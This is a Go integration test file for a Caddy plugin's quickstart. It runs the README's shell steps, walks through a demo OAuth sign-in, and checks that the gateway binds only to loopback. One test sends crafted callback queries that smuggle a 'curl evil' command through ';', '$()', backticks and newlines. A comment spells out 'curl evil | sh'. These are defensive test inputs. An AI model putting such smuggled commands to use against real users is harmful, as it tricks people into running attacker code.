package integration

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"os/exec"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/applinks/caddy-applinks/internal/flow"
)

// The quickstart's own ports (8080, its demo app on 9000, Caddy's admin
// endpoint on 2019) may be held by a quickstart someone runs by hand, so the
// tests move them here.
const (
	quickstartPort      = 9484
	quickstartAppPort   = 9485
	quickstartAdminPort = 9486
)

// quickstartBase is the gateway of the quickstart as the README names it,
// with the test's port.
var quickstartBase = fmt.Sprintf("http://localhost:%d", quickstartPort)

// movePorts rewrites the quickstart's ports in text (the Caddyfile or the
// README) to the test's, failing when one of them is not there: a renamed
// port would otherwise go unnoticed and the test would talk to nothing.
func movePorts(t *testing.T, what, text string, ports map[string]string) string {
	t.Helper()
	for from, to := range ports {
		if !strings.Contains(text, from) {
			t.Fatalf("%s no longer mentions %q: update the quickstart test", what, from)
		}
		text = strings.ReplaceAll(text, from, to)
	}
	return text
}

// startQuickstart runs examples/quickstart/Caddyfile as written, in its own
// Caddy process with its data directory in a temp dir, on the test's ports.
func startQuickstart(t *testing.T) {
	t.Helper()
	if testing.Short() {
		t.Skip("builds a Caddy binary")
	}
	b, err := os.ReadFile("../examples/quickstart/Caddyfile")
	if err != nil {
		t.Fatal(err)
	}
	cfg := movePorts(t, "examples/quickstart/Caddyfile", string(b), map[string]string{
		"8080": fmt.Sprint(quickstartPort),
		"9000": fmt.Sprint(quickstartAppPort),
	})
	global := strings.Index(cfg, "\n{\n")
	if global < 0 {
		t.Fatal("examples/quickstart/Caddyfile has no global options block")
	}
	cfg = cfg[:global] + fmt.Sprintf("\n{\n\tadmin localhost:%d\n", quickstartAdminPort) + cfg[global+len("\n{\n"):]
	startProcessOn(t, caddyBinary(t), cfg, quickstartPort)
}

// requireTools skips the test when a command it runs is missing, except on
// CI, where a missing tool must not pass for a working README.
func requireTools(t *testing.T, names ...string) {
	t.Helper()
	for _, name := range names {
		if _, err := exec.LookPath(name); err != nil {
			if os.Getenv("CI") == "true" {
				t.Fatalf("%s is needed to run the README's commands: %v", name, err)
			}
			t.Skipf("%s is needed to run the README's commands: %v", name, err)
		}
	}
}

// readmeStep is a shell block of the README and the output shown after it.
type readmeStep struct {
	script string
	want   string // "" when the README shows no output
}

var fence = regexp.MustCompile("(?m)^[ \t]*```([a-z]*)[ \t]*$")

// readmeSteps returns the shell blocks of the README section that starts
// with heading, each with the output block that follows it.
func readmeSteps(t *testing.T, readme, heading string) []readmeStep {
	t.Helper()
	start := strings.Index(readme, "\n"+heading+"\n")
	if start < 0 {
		t.Fatalf("README.md has no %q section", heading)
	}
	section := readme[start+len(heading)+2:]
	if end := strings.Index(section, "\n#"); end >= 0 {
		section = section[:end]
	}
	marks := fence.FindAllStringSubmatchIndex(section, -1)
	if len(marks)%2 != 0 {
		t.Fatalf("README.md %q: a code block is not closed", heading)
	}
	var steps []readmeStep
	for i := 0; i < len(marks); i += 2 {
		lang := section[marks[i][2]:marks[i][3]]
		body := dedent(section[marks[i][1]+1 : marks[i+1][0]])
		switch {
		case lang == "sh":
			steps = append(steps, readmeStep{script: body})
		case len(steps) > 0 && steps[len(steps)-1].want == "":
			steps[len(steps)-1].want = body
		default:
			t.Fatalf("README.md %q: a %q block follows no shell block", heading, lang)
		}
	}
	if len(steps) == 0 {
		t.Fatalf("README.md %q has no shell blocks", heading)
	}
	return steps
}

// dedent removes the indentation of a code block inside a list item.
func dedent(block string) string {
	lines := strings.Split(strings.TrimRight(block, "\n"), "\n")
	indent := len(lines[0]) - len(strings.TrimLeft(lines[0], " "))
	for i, l := range lines {
		lines[i] = strings.TrimPrefix(l, strings.Repeat(" ", indent))
	}
	return strings.Join(lines, "\n")
}

// outputPattern turns an output block of the README into a regular
// expression where each … stands for a value that changes on every run.
func outputPattern(want string) *regexp.Regexp {
	parts := strings.Split(want, "…")
	for i, p := range parts {
		parts[i] = regexp.QuoteMeta(p)
	}
	return regexp.MustCompile(`\A` + strings.Join(parts, `[^"\s]+`) + `\z`)
}

// shell is one bash process that runs scripts one after the other, so that
// variables set by one block are there for the next, as in a terminal.
type shell struct {
	t     *testing.T
	stdin io.WriteCloser
	out   *bufio.Reader
	n     int
}

func startShell(t *testing.T) *shell {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	t.Cleanup(cancel)
	cmd := exec.CommandContext(ctx, "bash", "--noprofile", "--norc", "-o", "nounset", "-s")
	// No proxy, no ~/.curlrc: curl talks straight to the gateway.
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(), "LC_ALL=C"}
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stdout, cmd.Stderr = w, w
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	w.Close()
	t.Cleanup(func() { stdin.Close(); _ = cmd.Wait(); r.Close() })
	return &shell{t: t, stdin: stdin, out: bufio.NewReader(r)}
}

// run runs script and returns what it printed to stdout and stderr.
func (s *shell) run(script string) string {
	s.t.Helper()
	s.n++
	marker := fmt.Sprintf("@@end of step %d@@", s.n)
	if _, err := fmt.Fprintf(s.stdin, "%s\nprintf '\\n%s\\n'\n", script, marker); err != nil {
		s.t.Fatalf("writing to bash: %v", err)
	}
	var out strings.Builder
	for {
		line, err := s.out.ReadString('\n')
		if strings.TrimSpace(line) == marker {
			return strings.TrimSpace(out.String())
		}
		out.WriteString(line)
		if err != nil {
			s.t.Fatalf("bash ended before the step finished (%v):\n%s\n\noutput:\n%s", err, script, out.String())
		}
	}
}

var codeLine = regexp.MustCompile(`(?m)^CODE=\S+$`)

// browse is the browser of the README's step that says to open the URL the
// previous step printed: it signs in as the quickstart's admin, allows
// access, follows the redirect to the quickstart's callback page and
// returns the line the page says to paste.
func browse(t *testing.T, printed string) string {
	t.Helper()
	lines := strings.Split(printed, "\n")
	authURL := lines[len(lines)-1]
	if !strings.HasPrefix(authURL, quickstartBase+"/") {
		t.Fatalf("the step before the browser printed no URL of the gateway:\n%s", printed)
	}
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, Timeout: 10 * time.Second}
	resp, page, err := flow.Authorize(c, authURL, "admin", "admin-demo-password")
	if err != nil {
		t.Fatalf("signing in and allowing access at %s: %v", authURL, err)
	}
	if resp.StatusCode != http.StatusOK || resp.Request.URL.Path != "/demo/callback" {
		t.Fatalf("the browser ended at %s with %d, not on the callback page:\n%s", resp.Request.URL, resp.StatusCode, page)
	}
	line := codeLine.FindString(page)
	if line == "" {
		t.Fatalf("the callback page shows no CODE= line to paste:\n%s", page)
	}
	return line
}

// TestQuickstartReadmeFlowRunsAsWritten: a newcomer who pastes the README's
// "Try the flow" blocks in order against the quickstart gets exactly the
// outputs the README shows, instead of an invalid_grant or a dead token
// halfway through.
func TestQuickstartReadmeFlowRunsAsWritten(t *testing.T) {
	requireTools(t, "bash", "curl", "openssl")
	b, err := os.ReadFile("../README.md")
	if err != nil {
		t.Fatal(err)
	}
	readme := movePorts(t, "README.md", string(b), map[string]string{"localhost:8080": fmt.Sprintf("localhost:%d", quickstartPort)})
	steps := readmeSteps(t, readme, "### Try the flow")
	startQuickstart(t)
	sh := startShell(t)

	var printed string
	browsed := false
	for i, step := range steps {
		script := step.script
		if strings.HasPrefix(script, "CODE=") {
			// The browser step: the README's line stands for the line the
			// callback page shows.
			pasted := browse(t, printed)
			if !outputPattern(script).MatchString(pasted) {
				t.Fatalf("step %d: the README says to paste %q, the callback page shows %q", i+1, script, pasted)
			}
			script, browsed = pasted, true
		}
		printed = sh.run(script)
		if !outputPattern(step.want).MatchString(printed) {
			t.Errorf("step %d:\n%s\n\nprinted:\n%s\n\nthe README shows:\n%s", i+1, script, printed, step.want)
		}
	}
	if !browsed {
		t.Error("no step pastes the CODE= line of the callback page")
	}
}

// TestQuickstartCallbackPageOffersNoInjectedCommands: a crafted link to the
// quickstart's callback page cannot make it offer a shell line or text of
// the attacker's (`CODE=x; curl evil | sh`) for the newcomer to paste.
func TestQuickstartCallbackPageOffersNoInjectedCommands(t *testing.T) {
	startQuickstart(t)
	const injected = "curl evil"
	for _, query := range []url.Values{
		{"code": {"alc_x;" + injected}},
		{"code": {"alc_x$(" + injected + ")"}},
		{"code": {"alc_x`" + injected + "`"}},
		{"code": {"alc_x\n" + injected}},
		{"code": {"alc_x " + injected}},
		{"code": {injected}},
		{"error": {injected}},
		{"error_description": {injected}, "state": {injected}},
	} {
		resp, err := http.Get(quickstartBase + "/demo/callback?" + query.Encode())
		if err != nil {
			t.Fatal(err)
		}
		page, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadRequest || strings.Contains(string(page), "CODE=") || strings.Contains(string(page), injected) {
			t.Errorf("%s: %d\n%s", query.Encode(), resp.StatusCode, page)
		}
	}
}

// TestQuickstartDoesNotListenOnOtherInterfaces: with the quickstart
// running, a machine on the network cannot reach its sign-in page, where
// the README's published admin password would work.
func TestQuickstartDoesNotListenOnOtherInterfaces(t *testing.T) {
	startQuickstart(t)
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	tried := 0
	for _, a := range addrs {
		ipnet, ok := a.(*net.IPNet)
		if !ok || ipnet.IP.IsLoopback() || ipnet.IP.IsLinkLocalUnicast() {
			continue
		}
		for _, port := range []int{quickstartPort, quickstartAppPort} {
			tried++
			addr := net.JoinHostPort(ipnet.IP.String(), fmt.Sprint(port))
			if conn, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
				conn.Close()
				t.Errorf("the quickstart answers at %s", addr)
			}
		}
	}
	if tried == 0 {
		t.Skip("this machine has no address but loopback to try")
	}
}
